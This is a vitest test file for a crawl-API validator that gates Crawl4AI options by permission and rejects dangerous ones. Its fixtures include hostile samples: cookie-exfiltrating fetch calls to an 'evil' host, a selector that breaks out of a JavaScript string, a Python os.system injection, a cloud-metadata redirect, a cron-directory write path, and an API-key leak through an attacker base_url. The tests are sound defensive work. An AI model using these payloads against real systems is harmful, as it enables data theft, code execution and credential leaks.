/** The crawl-option allow-list, one class at a time (pure: options/check.ts over options/table.ts). */
import { describe, expect, it } from 'vitest';
import type { Permission } from '../../src/auth/rbac';
import { checkBody, type CheckResult } from '../../src/crawl/options/check';
import { DEFAULT_OPTION_LIMITS, isPlainCssSelector } from '../../src/crawl/options/kinds';
import type { BodyShape } from '../../src/crawl/options/table';
import { LEGIT_BODIES } from './options-fixtures';

const RUN: Permission[] = ['crawl:run'];
const ALL: Permission[] = [
  'crawl:run',
  'crawl:screenshot',
  'crawl:pdf',
  'crawl:js',
  'crawl:llm',
  'crawl:proxy',
  'crawl:headers',
  'crawl:deep',
];

function check(body: unknown, permissions: Permission[] = RUN, shape: BodyShape = 'crawl', llmBaseUrls: string[] = []): CheckResult {
  return checkBody(shape, body, { permissions, allowPrivateTargets: false, limits: { ...DEFAULT_OPTION_LIMITS, llmBaseUrls } });
}

const crawl = (params: Record<string, unknown>, browser?: Record<string, unknown>) => ({
  urls: ['https://example.com/'],
  crawler_config: { type: 'CrawlerRunConfig', params },
  ...(browser ? { browser_config: { type: 'BrowserConfig', params: browser } } : {}),
});

function issues(r: CheckResult) {
  return r.ok ? [] : r.issues;
}

describe('safe: legitimate Crawl4AI payloads pass for crawl:run, unchanged', () => {
  it.each(Object.entries(LEGIT_BODIES))('%s', (_name, { shape, body }) => {
    const r = check(body, RUN, shape);
    expect(issues(r)).toEqual([]);
    expect(r.ok && r.value).toEqual(body);
  });

  it('forwards a plain wait_for selector as css:<selector> (never read as JavaScript by the origin)', () => {
    const r = check(crawl({ wait_for: 'div.content > p:nth-child(2)' }));
    expect(r.ok && (r.value.crawler_config as { params: { wait_for: string } }).params.wait_for).toBe('css:div.content > p:nth-child(2)');
  });

  it.each([
    [' js:alert(1)', 'css:js:alert(1)'],
    ['CSS:div', 'css:CSS:div'],
  ])('forwards %j, a selector that reads as a JS label, as %j', (waitFor, forwarded) => {
    const r = check(crawl({ wait_for: waitFor }));
    expect(r.ok && (r.value.crawler_config as { params: { wait_for: string } }).params.wait_for).toBe(forwarded);
  });

  it('names the type of a `{params}` config without one, as the edge engines read it', () => {
    const r = check({ urls: ['https://example.com/'], crawler_config: { params: { cache_mode: 'bypass' } } });
    expect(r.ok && r.value.crawler_config).toEqual({ type: 'CrawlerRunConfig', params: { cache_mode: 'bypass' } });
  });
});

describe('code: needs crawl:js (403), passes with it', () => {
  const cases: Array<[string, Record<string, unknown>, string]> = [
    ['js_code', crawl({ js_code: ['document.title'] }), '$.crawler_config.params.js_code'],
    ['js_code_before_wait', crawl({ js_code_before_wait: 'x()' }), '$.crawler_config.params.js_code_before_wait'],
    ['c4a_script', crawl({ c4a_script: 'CLICK `#go`' }), '$.crawler_config.params.c4a_script'],
    ['wait_for js:', crawl({ wait_for: 'js:() => window.ready' }), '$.crawler_config.params.wait_for'],
    ['wait_for "() =>" (smart_wait runs it as JS)', crawl({ wait_for: '() => fetch("//evil")' }), '$.crawler_config.params.wait_for'],
    ['wait_for "function" prefix', crawl({ wait_for: 'function(){return 1}' }), '$.crawler_config.params.wait_for'],
    [
      'wait_for that is not a selector (JS fallback)',
      crawl({ wait_for: 'fetch(`//evil/${document.cookie}`)' }),
      '$.crawler_config.params.wait_for',
    ],
    [
      'wait_for "css:" behind a BOM (JS trims it, Python does not)',
      crawl({ wait_for: '\uFEFFcss: div' }),
      '$.crawler_config.params.wait_for',
    ],
    [
      "css_selector breaking out of Crawl4AI's JS string",
      crawl({ css_selector: 'a");fetch("//evil");("' }),
      '$.crawler_config.params.css_selector',
    ],
    ['BrowserConfig init_scripts', crawl({}, { init_scripts: ['window.x=1'] }), '$.browser_config.params.init_scripts'],
    [
      'hooks.code (Crawl4AI ≤ 0.8 Python hooks)',
      { urls: ['https://example.com/'], hooks: { code: { on_page_context_created: 'async def hook(page, **kw): return page' } } },
      '$.hooks.code',
    ],
    ['shared_data (for code hooks)', crawl({ shared_data: { a: 1 } }), '$.crawler_config.params.shared_data'],
  ];
  it.each(cases)('%s', (_label, body, path) => {
    const r = check(body);
    expect(issues(r)).toEqual([expect.objectContaining({ path, kind: 'permission', permission: 'crawl:js' })]);
    expect(check(body, [...RUN, 'crawl:js']).ok).toBe(true);
  });
});

describe('capability: needs its named permission', () => {
  const llm = {
    type: 'LLMExtractionStrategy',
    params: {
      llm_config: { type: 'LLMConfig', params: { provider: 'openai/gpt-4o-mini', api_token: 'env:OPENAI_API_KEY' } },
      instruction: 'titles',
    },
  };
  const cases: Array<[string, Record<string, unknown>, Permission, string]> = [
    ['LLM extraction', crawl({ extraction_strategy: llm }), 'crawl:llm', '$.crawler_config.params.extraction_strategy'],
    [
      'LLM content filter',
      crawl({
        markdown_generator: {
          type: 'DefaultMarkdownGenerator',
          params: { content_filter: { type: 'LLMContentFilter', params: { instruction: 'x' } } },
        },
      }),
      'crawl:llm',
      '$.crawler_config.params.markdown_generator.params.content_filter',
    ],
    ['/md f=llm', { url: 'https://example.com/', f: 'llm', q: 'x' }, 'crawl:llm', '$.f'],
    ['browser proxy', crawl({}, { proxy: 'http://proxy.example.net:3128' }), 'crawl:proxy', '$.browser_config.params.proxy'],
    [
      'run proxy_config',
      crawl({ proxy_config: { type: 'ProxyConfig', params: { server: 'http://proxy.example.net:3128', username: 'u', password: 'p' } } }),
      'crawl:proxy',
      '$.crawler_config.params.proxy_config',
    ],
    ['browser headers', crawl({}, { headers: { 'X-Team': 'a' } }), 'crawl:headers', '$.browser_config.params.headers'],
    [
      'browser cookies',
      crawl({}, { cookies: [{ name: 's', value: '1', url: 'https://example.com/' }] }),
      'crawl:headers',
      '$.browser_config.params.cookies',
    ],
    [
      'hook set_headers',
      { urls: ['https://example.com/'], hooks: { hooks: [{ action: 'set_headers', params: { headers: { 'X-A': 'b' } } }] } },
      'crawl:headers',
      '$.hooks.hooks[0].params.headers',
    ],
    [
      'deep crawl without max_pages',
      crawl({ deep_crawl_strategy: { type: 'BFSDeepCrawlStrategy', params: { max_depth: 1 } } }),
      'crawl:deep',
      '$.crawler_config.params.deep_crawl_strategy.params.max_pages',
    ],
    [
      'deep crawl too deep',
      crawl({ deep_crawl_strategy: { type: 'BFSDeepCrawlStrategy', params: { max_depth: 5, max_pages: 10 } } }),
      'crawl:deep',
      '$.crawler_config.params.deep_crawl_strategy.params.max_depth',
    ],
    [
      'deep crawl off the start domain',
      crawl({ deep_crawl_strategy: { type: 'DFSDeepCrawlStrategy', params: { max_depth: 1, max_pages: 10, include_external: true } } }),
      'crawl:deep',
      '$.crawler_config.params.deep_crawl_strategy.params.include_external',
    ],
    [
      'link previews of other domains',
      crawl({ link_preview_config: { include_external: true } }),
      'crawl:deep',
      '$.crawler_config.params.link_preview_config.include_external',
    ],
    ['screenshot flag', crawl({ screenshot: true }), 'crawl:screenshot', '$.crawler_config.params.screenshot'],
    ['pdf flag', crawl({ pdf: true }), 'crawl:pdf', '$.crawler_config.params.pdf'],
  ];
  it.each(cases)('%s', (_label, body, permission, path) => {
    const shape: BodyShape = 'url' in body ? 'md' : 'crawl';
    const r = check(body, RUN, shape);
    expect(issues(r)).toContainEqual(expect.objectContaining({ path, kind: 'permission', permission }));
    expect(issues(r).every((i) => i.kind === 'permission' && i.permission === permission)).toBe(true);
    expect(issues(check(body, [...RUN, permission], shape))).toEqual([]);
  });

  it('lets env: keys go to an operator-configured LLM endpoint, with crawl:llm', () => {
    const cfg = {
      type: 'LLMConfig',
      params: { provider: 'openai/gpt-4o-mini', api_token: 'env:OPENAI_API_KEY', base_url: 'https://llm.internal-gw.example.com/v1' },
    };
    const body = crawl({ extraction_strategy: { type: 'LLMExtractionStrategy', params: { llm_config: cfg } } });
    expect(check(body, ALL, 'crawl', ['https://llm.internal-gw.example.com/v1/']).ok).toBe(true);
    expect(issues(check(body, ALL))).toEqual([
      expect.objectContaining({ kind: 'never', path: '$.crawler_config.params.extraction_strategy.params.llm_config.params.base_url' }),
    ]);
  });

  it('lets a caller send its own literal key to its own endpoint', () => {
    const cfg = {
      type: 'LLMConfig',
      params: { provider: 'openai/gpt-4o-mini', api_token: 'sk-callers-own', base_url: 'https://llm.example.net/v1' },
    };
    expect(
      check(crawl({ extraction_strategy: { type: 'LLMExtractionStrategy', params: { llm_config: cfg } } }), [...RUN, 'crawl:llm']).ok,
    ).toBe(true);
  });
});

describe('never: refused (422) even with every permission', () => {
  const cases: Array<[string, Record<string, unknown>, string, BodyShape?]> = [
    ['user_data_dir', crawl({}, { user_data_dir: '/root/.config' }), '$.browser_config.params.user_data_dir'],
    ['cdp_url', crawl({}, { cdp_url: 'ws://10.0.0.2:9222' }), '$.browser_config.params.cdp_url'],
    ['extra_args', crawl({}, { extra_args: ['--host-resolver-rules=MAP * 169.254.169.254'] }), '$.browser_config.params.extra_args'],
    ['accept_downloads', crawl({}, { accept_downloads: true }), '$.browser_config.params.accept_downloads'],
    ['output_path', { url: 'https://example.com/', output_path: '/etc/cron.d/x' }, '$.output_path', 'screenshot'],
    ['/md base_url', { url: 'https://example.com/', f: 'llm', base_url: 'https://evil.example/' }, '$.base_url', 'md'],
    [
      'schema expression (eval in Crawl4AI ≤ 0.7)',
      crawl({
        extraction_strategy: {
          type: 'JsonCssExtractionStrategy',
          params: {
            schema: { baseSelector: 'li', fields: [{ name: 'x', type: 'computed', expression: '__import__("os").system("id")' }] },
          },
        },
      }),
      '$.crawler_config.params.extraction_strategy.params.schema.fields[0].expression',
    ],
    [
      'env: key with a caller-chosen base_url',
      crawl({
        extraction_strategy: {
          type: 'LLMExtractionStrategy',
          params: {
            llm_config: {
              type: 'LLMConfig',
              params: { provider: 'openai/x', api_token: 'env:OPENAI_API_KEY', base_url: 'https://evil.example/v1' },
            },
          },
        },
      }),
      '$.crawler_config.params.extraction_strategy.params.llm_config.params.base_url',
    ],
    [
      'no key (provider key from env) with a caller-chosen base_url',
      crawl({
        extraction_strategy: {
          type: 'LLMExtractionStrategy',
          params: { llm_config: { type: 'LLMConfig', params: { provider: 'openai/x', base_url: 'https://evil.example/v1' } } },
        },
      }),
      '$.crawler_config.params.extraction_strategy.params.llm_config.params.base_url',
    ],
    [
      'LLM extra_args',
      crawl({ extraction_strategy: { type: 'LLMExtractionStrategy', params: { extra_args: { api_base: 'https://evil.example' } } } }),
      '$.crawler_config.params.extraction_strategy.params.extra_args',
    ],
    [
      'deep-crawl resume_state',
      crawl({
        deep_crawl_strategy: {
          type: 'BFSDeepCrawlStrategy',
          params: { max_depth: 1, max_pages: 5, resume_state: { pending: ['http://169.254.169.254/'] } },
        },
      }),
      '$.crawler_config.params.deep_crawl_strategy.params.resume_state',
    ],
    [
      'another embedding model',
      crawl({ extraction_strategy: { type: 'CosineStrategy', params: { model_name: 'evil/pickled-model' } } }),
      '$.crawler_config.params.extraction_strategy.params.model_name',
    ],
    ['experimental', crawl({ experimental: { x: 1 } }), '$.crawler_config.params.experimental'],
  ];
  it.each(cases)('%s', (_label, body, path, shape = 'crawl') => {
    const r = check(body, ALL, shape);
    expect(issues(r)).toContainEqual(expect.objectContaining({ path, kind: 'never' }));
  });
});

describe('unknown: anything the table does not list is refused with its path', () => {
  it.each([
    ['a top-level field', { urls: ['https://example.com/'], user_id: 'admin' }, '$.user_id'],
    ['a nested field', crawl({ deep: { js_code: 'x()' } }), '$.crawler_config.params.deep'],
    [
      'an unknown type',
      crawl({ extraction_strategy: { type: 'SomethingNew', params: {} } }),
      '$.crawler_config.params.extraction_strategy.type',
    ],
    [
      'a typed object smuggled into a schema field',
      crawl({
        extraction_strategy: {
          type: 'JsonCssExtractionStrategy',
          params: { schema: { baseSelector: 'li', fields: [{ type: 'LLMConfig', params: { api_token: 'env:X' } }] } },
        },
      }),
      '$.crawler_config.params.extraction_strategy.params.schema.fields[0]',
    ],
    [
      'a typed object smuggled into a header map',
      crawl({}, { headers: { type: 'LLMConfig', params: {} } }),
      '$.browser_config.params.headers',
    ],
    ['__proto__', JSON.parse('{"urls":["https://example.com/"],"__proto__":{"js_code":"x"}}'), '$.__proto__'],
  ])('%s', (_label, body, path) => {
    const r = check(body, ALL);
    expect(issues(r).map((i) => i.path)).toContain(path);
    expect(issues(r).every((i) => i.kind !== 'permission')).toBe(true);
  });

  it('refuses a body nested 5,000 levels deep without overflowing a stack', () => {
    let deep: unknown = 'x';
    for (let i = 0; i < 5000; i++) deep = { fields: [deep] };
    const r = check(crawl({ extraction_strategy: { type: 'JsonCssExtractionStrategy', params: { schema: deep } } }), ALL);
    expect(r.ok).toBe(false);
    expect(issues(r)[0]).toMatchObject({ kind: 'invalid' });
  });
});

describe('the CSS selector grammar', () => {
  it.each([
    'div',
    '#main',
    'article.post > h1',
    'ul li:nth-child(2n+1)',
    "a[href^='https']",
    'div, p ~ span',
    '*',
    'input[type=checkbox]:not(.x)',
  ])('accepts %s', (s) => {
    expect(isPlainCssSelector(s)).toBe(true);
  });
  it.each(['', 'a"', 'a\\b', 'x(1)', 'a:not(b(c))', '() => 1', 'a\nb', '//div', 'a >> b', 'text=Login', "a[x='\"']", '.1a', 'a `b`'])(
    'refuses %j',
    (s) => {
      expect(isPlainCssSelector(s)).toBe(false);
    },
  );
});
